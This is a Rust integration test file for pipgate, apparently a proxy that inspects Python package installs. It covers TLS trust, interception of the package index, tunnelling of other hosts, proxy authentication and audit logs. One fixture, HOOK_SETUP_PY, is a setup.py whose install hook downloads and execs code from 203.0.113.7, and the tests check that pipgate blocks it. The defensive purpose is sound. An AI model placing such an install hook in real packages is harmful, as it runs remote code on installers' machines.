//! TLS end to end. Upstream TLS trusts the system store, including `SSL_CERT_FILE`: a gateway
//! CA that only that bundle holds must work, and a server it does not vouch for must fail
//! clearly. pipgate's own CA: real pip and uv configured only with `HTTPS_PROXY` and the
//! combined bundle get the index inspected (clean installs, the same block messages as the
//! plain proxy, the user in the audit log) and other HTTPS hosts tunnelled untouched; a
//! client that does not trust the CA is refused; `serve --tls` serves pip and uv over HTTPS.

mod common;
use common::*;
use std::sync::Arc;

/// A TLS front on 127.0.0.1:0 that forwards bytes to `backend` (the fake index).
fn tls_front(backend: std::net::SocketAddr, cert_pem: &str, key_pem: &str) -> std::net::SocketAddr {
    let cert: rustls::pki_types::CertificateDer =
        rustls::pki_types::pem::PemObject::from_pem_slice(cert_pem.as_bytes()).unwrap();
    let certs = vec![cert.into_owned()];
    let key: rustls::pki_types::PrivateKeyDer =
        rustls::pki_types::pem::PemObject::from_pem_slice(key_pem.as_bytes()).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(certs, key)
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        rt.block_on(async move {
            let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            tx.send(l.local_addr().unwrap()).unwrap();
            loop {
                let (s, _) = l.accept().await.unwrap();
                let acceptor = acceptor.clone();
                tokio::spawn(async move {
                    let Ok(mut tls) = acceptor.accept(s).await else { return };
                    let mut up = tokio::net::TcpStream::connect(backend).await.unwrap();
                    let _ = tokio::io::copy_bidirectional(&mut tls, &mut up).await;
                });
            }
        });
    });
    rx.recv().unwrap()
}

fn ca_and_leaf() -> (String, String, String) {
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca_params.key_usages = vec![rcgen::KeyUsagePurpose::KeyCertSign, rcgen::KeyUsagePurpose::CrlSign];
    ca_params.distinguished_name.push(rcgen::DnType::CommonName, "pipgate test gateway CA");
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let ca = ca_params.self_signed(&ca_key).unwrap();
    let mut leaf_params = rcgen::CertificateParams::new(vec!["localhost".to_string()]).unwrap();
    leaf_params.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ServerAuth];
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let issuer = rcgen::Issuer::new(ca_params, ca_key);
    let leaf = leaf_params.signed_by(&leaf_key, &issuer).unwrap();
    (ca.pem(), leaf.pem(), leaf_key.serialize_pem())
}

/// pipgate trusting exactly `ssl_cert_file` (and an empty `SSL_CERT_DIR`) for its upstream.
fn start_trusting(upstream: &str, ssl_cert_file: &std::path::Path, extra: &[&str]) -> Pipgate {
    let empty = tempfile::tempdir().unwrap().keep();
    Pipgate::start_full(
        upstream,
        Some(REPO_POLICY),
        extra,
        &[("SSL_CERT_FILE", ssl_cert_file.to_str().unwrap()), ("SSL_CERT_DIR", empty.to_str().unwrap())],
    )
}

#[test]
fn https_upstream_is_trusted_through_ssl_cert_file_and_untrusted_fails_with_502() {
    let idx = FakeIndex::start(Format::Json);
    idx.add_dist("demo-a", wheel("demo-a", "1.0", &[], &[]));
    let (ca_pem, leaf_pem, leaf_key) = ca_and_leaf();
    let front = tls_front(idx.addr, &leaf_pem, &leaf_key);
    let upstream = format!("https://localhost:{}/simple/", front.port());
    let dir = tempfile::tempdir().unwrap();
    let bundle = dir.path().join("gateway-ca.pem");
    std::fs::write(&bundle, &ca_pem).unwrap();

    // Trusted: the CA is only in SSL_CERT_FILE.
    let gate = start_trusting(&upstream, &bundle, &[]);
    let r = http().get(format!("{}demo-a/", gate.url)).send().unwrap();
    assert_eq!(r.status(), 200, "{}", gate.log());
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-a"]);
    assert!(out.status.success(), "{}", show(&out));

    // Not trusted: a bundle without that CA.
    let other = dir.path().join("other.pem");
    std::fs::write(&other, ca_and_leaf().0).unwrap();
    let gate = start_trusting(&upstream, &other, &[]);
    let r = http().get(format!("{}demo-a/", gate.url)).send().unwrap();
    assert_eq!(r.status(), 502);
    let body = r.text().unwrap();
    assert!(body.contains("certificate") || body.contains("Unknown"), "{body}");
}

const REPO_POLICY: &str = include_str!("../policy.yaml");

/// A setup.py that overrides `install` to download and run code (never executed: the test
/// sdists build with an in-tree backend).
const HOOK_SETUP_PY: &str = r#"import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        exec(urllib.request.urlopen("http://203.0.113.7/stage2.py").read())
        install.run(self)


setup(name="demo-hook", version="1.0", cmdclass={"install": PostInstall})
"#;

/// pipgate's log once `done` holds for it (its stderr is copied to the file by a thread), or
/// after 10 s, for the assertion to show.
fn logged(gate: &Pipgate, done: impl Fn(&str) -> bool) -> String {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let log = gate.log();
        if done(&log) || std::time::Instant::now() > deadline {
            return log;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

fn pipgate_cli(args: &[&str], env: &[(&str, &str)]) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_pipgate")).args(args).envs(env.iter().copied()).output().unwrap()
}

fn der(pem: &str) -> Vec<u8> {
    let c: rustls::pki_types::CertificateDer =
        rustls::pki_types::pem::PemObject::from_pem_slice(pem.as_bytes()).unwrap();
    c.as_ref().to_vec()
}

/// An HTTPS index upstream (its own test CA), an unrelated HTTPS host (another CA), a pipgate
/// CA made by `pipgate ca init`, and the bundle `pipgate ca bundle` makes when the "system"
/// roots are the unrelated host's CA (so the bundle must add to them, not replace them).
struct World {
    idx: FakeIndex,
    index_url: String,
    upstream_ca: std::path::PathBuf,
    other: FakeIndex,
    other_leaf_pem: String,
    other_ca_pem: String,
    other_wheel_url: String,
    ca_dir: std::path::PathBuf,
    bundle: std::path::PathBuf,
    empty_dir: std::path::PathBuf,
    hook_sha: String,
    _tmp: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        let tmp = tempfile::tempdir().unwrap();
        let idx = FakeIndex::start(Format::Json);
        idx.add_dist("demo-clean", wheel("demo-clean", "1.0", &[], &[]));
        let hook = sdist("demo-hook", "1.0", &[("setup.py", HOOK_SETUP_PY)]);
        let hook_sha = sha256_hex(&hook.bytes);
        idx.add_dist("demo-hook", hook);
        let (up_ca, up_leaf, up_key) = ca_and_leaf();
        let front = tls_front(idx.addr, &up_leaf, &up_key);
        let upstream_ca = tmp.path().join("upstream-ca.pem");
        std::fs::write(&upstream_ca, &up_ca).unwrap();

        let other = FakeIndex::start(Format::Json);
        let unrelated = wheel("unrelated", "2.0", &[], &[]);
        let other_wheel = unrelated.filename.clone();
        other.add_dist("unrelated", unrelated);
        let (other_ca_pem, other_leaf_pem, other_key) = ca_and_leaf();
        let other_front = tls_front(other.addr, &other_leaf_pem, &other_key);
        let other_ca = tmp.path().join("other-ca.pem");
        std::fs::write(&other_ca, &other_ca_pem).unwrap();

        let ca_dir = tmp.path().join("certs");
        let out = pipgate_cli(&["ca", "init", "--dir", ca_dir.to_str().unwrap()], &[]);
        assert!(out.status.success(), "{}", show(&out));
        let empty_dir = tmp.path().join("empty");
        std::fs::create_dir(&empty_dir).unwrap();
        let bundle = tmp.path().join("bundle.pem");
        let out = pipgate_cli(
            &["ca", "bundle", "--dir", ca_dir.to_str().unwrap(), "--out", bundle.to_str().unwrap()],
            &[("SSL_CERT_FILE", other_ca.to_str().unwrap()), ("SSL_CERT_DIR", empty_dir.to_str().unwrap())],
        );
        assert!(out.status.success(), "{}", show(&out));
        World {
            index_url: format!("https://localhost:{}/simple/", front.port()),
            other_wheel_url: format!("https://localhost:{}/files/{other_wheel}", other_front.port()),
            idx,
            upstream_ca,
            other,
            other_leaf_pem,
            other_ca_pem,
            ca_dir,
            bundle,
            empty_dir,
            hook_sha,
            _tmp: tmp,
        }
    }

    fn pipgate(&self, extra: &[&str]) -> Pipgate {
        let mut args = vec!["--ca-dir", self.ca_dir.to_str().unwrap()];
        args.extend_from_slice(extra);
        start_trusting(&self.index_url, &self.upstream_ca, &args)
    }

    fn upstream_ca_pem(&self) -> String {
        std::fs::read_to_string(&self.upstream_ca).unwrap()
    }

    fn pipgate_ca_pem(&self) -> String {
        std::fs::read_to_string(self.ca_dir.join("ca.pem")).unwrap()
    }
}

/// `CONNECT target` through the proxy at `proxy` (host:port), then a TLS handshake trusting
/// only `roots`: the server certificate the client saw, or the handshake's error.
fn connect_and_handshake(proxy: &str, target: &str, auth: Option<&str>, roots: &[&str]) -> Result<Vec<u8>, String> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let mut s = tokio::net::TcpStream::connect(proxy).await.unwrap();
        let auth = auth.map(|a| format!("Proxy-Authorization: {a}\r\n")).unwrap_or_default();
        s.write_all(format!("CONNECT {target} HTTP/1.0\r\n{auth}\r\n").as_bytes()).await.unwrap();
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            let mut b = [0u8; 1];
            if s.read(&mut b).await.unwrap() == 0 {
                break;
            }
            head.push(b[0]);
        }
        let head = String::from_utf8_lossy(&head).to_string();
        if !head.starts_with("HTTP/1.0 200") && !head.starts_with("HTTP/1.1 200") {
            return Err(head);
        }
        let mut store = rustls::RootCertStore::empty();
        for r in roots {
            store.add(rustls::pki_types::CertificateDer::from(der(r))).unwrap();
        }
        let config = rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_root_certificates(store)
            .with_no_client_auth();
        let host = target.rsplit_once(':').unwrap().0.to_string();
        let name = rustls::pki_types::ServerName::try_from(host).unwrap();
        let tls =
            tokio_rustls::TlsConnector::from(Arc::new(config)).connect(name, s).await.map_err(|e| e.to_string())?;
        Ok(tls.get_ref().1.peer_certificates().unwrap()[0].as_ref().to_vec())
    })
}

#[test]
fn through_https_proxy_pip_and_uv_get_the_index_inspected_and_other_hosts_untouched() {
    let w = World::new();
    // The bundle holds the "system" roots (here: the unrelated host's CA) and the pipgate CA.
    let bundle = std::fs::read_to_string(&w.bundle).unwrap();
    assert_eq!(bundle.matches("BEGIN CERTIFICATE").count(), 2, "{bundle}");
    assert!(bundle.contains(w.other_ca_pem.lines().nth(1).unwrap()), "the system roots are kept");
    assert!(bundle.contains(w.pipgate_ca_pem().lines().nth(1).unwrap()), "the pipgate CA is added");

    // A proxy user, hashed.
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_pipgate"))
        .args(["proxy-user", "alice"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(child.stdin.as_mut().unwrap(), b"s3cret\n").unwrap();
    let line = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
    assert!(line.starts_with("alice:$argon2id$") && !line.contains("s3cret"), "{line}");
    let users = w._tmp.path().join("proxy-users");
    std::fs::write(&users, &line).unwrap();

    let gate = w.pipgate(&["--proxy-users", users.to_str().unwrap()]);
    let addr = gate.base().trim_start_matches("http://").to_string();
    let proxy = format!("http://alice:s3cret@{addr}");
    let bundle = w.bundle.to_str().unwrap();
    let pip_env = [("HTTPS_PROXY", proxy.as_str()), ("PIP_CERT", bundle)];
    let uv_env =
        [("HTTPS_PROXY", proxy.as_str()), ("SSL_CERT_FILE", bundle), ("SSL_CERT_DIR", w.empty_dir.to_str().unwrap())];

    // pip: a clean install, through the index URL it was given (the upstream's own).
    let venv = Venv::new();
    let out = venv.pip_env(&["install", "--index-url", &w.index_url, "demo-clean"], &pip_env);
    assert!(out.status.success(), "{}\n{}", show(&out), gate.log());
    assert_eq!(venv.run("import demo_clean; print(demo_clean.VERSION)"), "1.0");
    // The same block message as the plain proxy.
    let out = venv.pip_env(&["install", "--index-url", &w.index_url, "demo-hook==1.0"], &pip_env);
    assert!(!out.status.success(), "{}", show(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("403 Client Error: Blocked by pipgate: execution.download-and-execute (rule:install-time-high)"),
        "{err}"
    );
    // Another HTTPS host: tunnelled untouched.
    let out = venv.pip_env(&["install", &w.other_wheel_url], &pip_env);
    assert!(out.status.success(), "{}\n{}", show(&out), gate.log());
    assert_eq!(venv.run("import unrelated; print(unrelated.VERSION)"), "2.0");

    // uv: the same three.
    let venv = Venv::new();
    let out = venv.uv_pip_env(&["install", "--index-url", &w.index_url, "demo-clean"], &uv_env);
    assert!(out.status.success(), "{}\n{}", show(&out), gate.log());
    let out = venv.uv_pip_env(&["install", "--index-url", &w.index_url, "demo-hook==1.0"], &uv_env);
    assert!(!out.status.success(), "{}", show(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("setup.py") && err.contains(&format!("pipgate policy accept {}", w.hook_sha)), "{err}");
    let out = venv.uv_pip_env(&["install", &w.other_wheel_url], &uv_env);
    assert!(out.status.success(), "{}\n{}", show(&out), gate.log());
    assert_eq!(venv.run("import unrelated; print(unrelated.VERSION)"), "2.0");

    // The unrelated host served its wheel itself (pip and uv), and the client saw its own
    // certificate through the tunnel, not a pipgate leaf.
    assert!(w.other.hits("unrelated-2.0-py3-none-any.whl") >= 2, "the unrelated host served both clients");
    let basic = format!("Basic {}", base64::Engine::encode(&base64::engine::general_purpose::STANDARD, "alice:s3cret"));
    let other_target = w.other_wheel_url.trim_start_matches("https://").split('/').next().unwrap().to_string();
    let seen = connect_and_handshake(&addr, &other_target, Some(&basic), &[&w.other_ca_pem]).unwrap();
    assert_eq!(seen, der(&w.other_leaf_pem), "the tunnel is untouched");
    // The index host, by contrast, answers with a pipgate leaf (which only the pipgate CA vouches for).
    let index_target = w.index_url.trim_start_matches("https://").trim_end_matches("/simple/").to_string();
    let leaf = connect_and_handshake(&addr, &index_target, Some(&basic), &[&w.pipgate_ca_pem()]).unwrap();
    let (_, cert) = x509_parser::parse_x509_certificate(&leaf).unwrap();
    assert!(cert.issuer().to_string().contains("pipgate CA on"), "{}", cert.issuer());

    // Without credentials: 407 with Proxy-Authenticate.
    let refused = connect_and_handshake(&addr, &other_target, None, &[&w.other_ca_pem]).unwrap_err();
    assert!(refused.starts_with("HTTP/1.0 407") || refused.starts_with("HTTP/1.1 407"), "{refused}");
    assert!(refused.to_ascii_lowercase().contains("proxy-authenticate: basic realm=\"pipgate\""), "{refused}");
    let wrong = format!("http://alice:wrong@{addr}");
    let out = Venv::new().pip_env(
        &["download", "--no-deps", "-d", "/tmp/pipgate-none", "--index-url", &w.index_url, "demo-clean"],
        &[("HTTPS_PROXY", wrong.as_str()), ("PIP_CERT", bundle)],
    );
    assert!(!out.status.success(), "{}", show(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("407"), "{}", show(&out));

    // The audit log names the proxy user on every decision, served and blocked.
    let audit = gate.audit();
    let served: Vec<_> = audit.iter().filter(|r| r["project"] == "demo-clean" && r["decision"] != "block").collect();
    let blocked: Vec<_> = audit.iter().filter(|r| r["project"] == "demo-hook" && r["decision"] == "block").collect();
    assert!(!served.is_empty() && !blocked.is_empty(), "{audit:?}");
    assert!(served.iter().chain(&blocked).all(|r| r["user"] == "alice"), "{audit:?}");
    let log = logged(&gate, |log| log.contains("CONNECT: inspecting") && log.contains("CONNECT: tunnelling untouched"));
    assert!(log.contains("CONNECT: inspecting") && log.contains("CONNECT: tunnelling untouched"), "{log}");
}

#[test]
fn a_client_that_does_not_trust_the_pipgate_ca_is_refused_not_downgraded() {
    let w = World::new();
    let gate = w.pipgate(&[]);
    let proxy = gate.base();
    // Trusting the real upstream's CA is not enough: pipgate never tunnels the index untouched.
    let ca = w.upstream_ca.to_str().unwrap();
    let venv = Venv::new();
    let out = venv
        .pip_env(&["install", "--index-url", &w.index_url, "demo-clean"], &[("HTTPS_PROXY", &proxy), ("PIP_CERT", ca)]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("CERTIFICATE_VERIFY_FAILED"), "{err}");
    let out = venv.uv_pip_env(
        &["install", "--index-url", &w.index_url, "demo-clean"],
        &[("HTTPS_PROXY", &proxy), ("SSL_CERT_FILE", ca), ("SSL_CERT_DIR", w.empty_dir.to_str().unwrap())],
    );
    assert!(!out.status.success(), "{}", show(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("UnknownIssuer") || err.contains("invalid peer certificate"), "{err}");
    assert_eq!(w.idx.hits("demo_clean-1.0-py3-none-any.whl"), 0, "nothing reached the client unscanned");
    assert!(gate.audit().is_empty(), "no decision was served");
    let log = logged(&gate, |log| log.contains("refused pipgate's certificate"));
    assert!(log.contains("refused pipgate's certificate"), "{log}");
}

#[test]
fn serve_tls_serves_the_index_over_https_to_pip_and_uv_with_h2_by_alpn() {
    let w = World::new();
    let gate = start_trusting(&w.idx.url(), &w.upstream_ca, &["--ca-dir", w.ca_dir.to_str().unwrap(), "--tls"]);
    assert!(gate.url.starts_with("https://127.0.0.1:"), "{}", gate.url);
    let bundle = w.bundle.to_str().unwrap();

    let venv = Venv::new();
    let out = venv.pip_env(&["install", "--index-url", &gate.url, "demo-clean"], &[("PIP_CERT", bundle)]);
    assert!(out.status.success(), "{}\n{}", show(&out), gate.log());
    let out = venv.pip_env(&["install", "--index-url", &gate.url, "demo-hook==1.0"], &[("PIP_CERT", bundle)]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("403 Client Error: Blocked by pipgate: execution.download-and-execute (rule:install-time-high)"),
        "{err}"
    );
    let venv = Venv::new();
    let uv_env = [("SSL_CERT_FILE", bundle), ("SSL_CERT_DIR", w.empty_dir.to_str().unwrap())];
    let out = venv.uv_pip_env(&["install", "--index-url", &gate.url, "demo-clean"], &uv_env);
    assert!(out.status.success(), "{}\n{}", show(&out), gate.log());
    assert_eq!(venv.run("import demo_clean; print(demo_clean.VERSION)"), "1.0");
    // uv really spoke h2 (pip's requests only speaks HTTP/1.1): the access log says which.
    let log = gate.log();
    let proto = |ua: &str| {
        log.lines().any(|l| l.contains("/simple/demo-clean/") && l.contains(ua) && l.contains("proto=HTTP/2.0"))
    };
    assert!(proto("uv/"), "uv's page request over h2: {log}");
    assert!(!proto("pip/"), "pip's over HTTP/1.1: {log}");

    // ALPN: h2 when offered, HTTP/1.1 otherwise.
    let addr = gate.url.trim_start_matches("https://").split('/').next().unwrap().to_string();
    for (offer, want) in
        [(vec![b"h2".to_vec(), b"http/1.1".to_vec()], &b"h2"[..]), (vec![b"http/1.1".to_vec()], b"http/1.1")]
    {
        let got = alpn(&addr, offer, &w.pipgate_ca_pem());
        assert_eq!(got.as_deref(), Some(want));
    }
    // Without the CA (uv's bundled roots, or a bundle without pipgate's CA): refused.
    let other_ca = w._tmp.path().join("other-ca.pem");
    let out = Venv::new().uv_pip_env(
        &["install", "--index-url", &gate.url, "demo-clean"],
        &[("SSL_CERT_FILE", other_ca.to_str().unwrap()), ("SSL_CERT_DIR", w.empty_dir.to_str().unwrap())],
    );
    assert!(!out.status.success(), "{}", show(&out));
}

/// The protocol a TLS handshake with pipgate settles on when the client offers `offer`.
fn alpn(addr: &str, offer: Vec<Vec<u8>>, ca_pem: &str) -> Option<Vec<u8>> {
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let mut store = rustls::RootCertStore::empty();
        store.add(rustls::pki_types::CertificateDer::from(der(ca_pem))).unwrap();
        let mut config =
            rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
                .with_safe_default_protocol_versions()
                .unwrap()
                .with_root_certificates(store)
                .with_no_client_auth();
        config.alpn_protocols = offer;
        let s = tokio::net::TcpStream::connect(addr).await.unwrap();
        let name = rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
        let tls = tokio_rustls::TlsConnector::from(Arc::new(config)).connect(name.to_owned(), s).await.unwrap();
        tls.get_ref().1.alpn_protocol().map(<[u8]>::to_vec)
    })
}

#[test]
fn plain_http_proxy_requests_to_the_index_are_inspected_too() {
    let idx = FakeIndex::start(Format::Html);
    idx.add_dist("demo-clean", wheel("demo-clean", "1.0", &[], &[]));
    idx.add_dist("demo-hook", sdist("demo-hook", "1.0", &[("setup.py", HOOK_SETUP_PY)]));
    let gate = Pipgate::start(&idx.url(), Some(REPO_POLICY));
    let proxy = gate.base();
    let venv = Venv::new();
    let out = venv.pip_env(&["install", "--index-url", &idx.url(), "demo-clean"], &[("HTTP_PROXY", &proxy)]);
    assert!(out.status.success(), "{}\n{}", show(&out), gate.log());
    let out = venv.pip_env(&["install", "--index-url", &idx.url(), "demo-hook==1.0"], &[("HTTP_PROXY", &proxy)]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("403 Client Error: Blocked by pipgate: execution.download-and-execute (rule:install-time-high)"),
        "{err}"
    );
    let audit = gate.audit();
    assert!(audit.iter().any(|r| r["project"] == "demo-clean" && r["decision"] != "block"), "{audit:?}");
    assert!(audit.iter().all(|r| r["user"].is_null()), "no proxy user configured: {audit:?}");
}

#[test]
fn pipgates_own_upstream_traffic_honours_https_proxy() {
    let w = World::new();
    // A stand-in for a corporate proxy: another pipgate, which tunnels every host but its own index.
    let corporate = Pipgate::start("http://127.0.0.1:9/simple/", None);
    let empty = w.empty_dir.to_str().unwrap();
    let gate = Pipgate::start_full(
        &w.index_url,
        None,
        &[],
        &[
            ("SSL_CERT_FILE", w.upstream_ca.to_str().unwrap()),
            ("SSL_CERT_DIR", empty),
            ("HTTPS_PROXY", &corporate.base()),
            ("NO_PROXY", ""),
            ("no_proxy", ""),
        ],
    );
    let r = http().get(format!("{}demo-clean/", gate.url)).send().unwrap();
    assert_eq!(r.status(), 200, "{}", gate.log());
    let target = w.index_url.trim_start_matches("https://").trim_end_matches("/simple/").to_string();
    let log = logged(&corporate, |log| log.contains("CONNECT: tunnelling untouched"));
    assert!(log.contains("CONNECT: tunnelling untouched") && log.contains(&target), "{log}");
}

#[test]
fn without_a_ca_the_index_is_never_tunnelled_and_other_hosts_can_be_refused() {
    let w = World::new();
    // No --ca-dir, and no certs/ beside the policy: nothing to inspect the index with.
    let gate = start_trusting(&w.index_url, &w.upstream_ca, &["--other-hosts", "refuse"]);
    let addr = gate.base().trim_start_matches("http://").to_string();
    let index_target = w.index_url.trim_start_matches("https://").trim_end_matches("/simple/").to_string();
    let refused = connect_and_handshake(&addr, &index_target, None, &[&w.upstream_ca_pem()]).unwrap_err();
    assert!(refused.starts_with("HTTP/1.0 502"), "{refused}");
    let other_target = w.other_wheel_url.trim_start_matches("https://").split('/').next().unwrap().to_string();
    let refused = connect_and_handshake(&addr, &other_target, None, &[&w.other_ca_pem]).unwrap_err();
    assert!(refused.starts_with("HTTP/1.0 403"), "{refused}");
    assert_eq!(w.idx.hits(""), 0, "the index was not reached at all");
    let log = logged(&gate, |log| log.contains("no CA to inspect it with") && log.contains("--other-hosts refuse"));
    assert!(log.contains("no CA to inspect it with") && log.contains("--other-hosts refuse"), "{log}");
}
